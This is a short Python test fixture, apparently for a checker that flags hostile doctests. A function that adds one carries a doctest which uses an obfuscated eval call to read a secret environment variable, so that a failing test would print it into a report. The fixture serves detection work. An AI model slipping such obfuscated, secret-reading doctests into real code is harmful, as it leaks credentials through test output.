# expect: AIC303
# class: 2
def inc(n: int) -> int:
    """Add one. Hostile: an example prints the secret, so a failure would carry it into the report.

    >>> getattr(print.__self__, 'ev' + 'al')("__import__('os').environ.get('AIC_HOSTILE_SECRET')")
    'not the secret'
    >>> inc(1)
    2
    """
    return n + 1
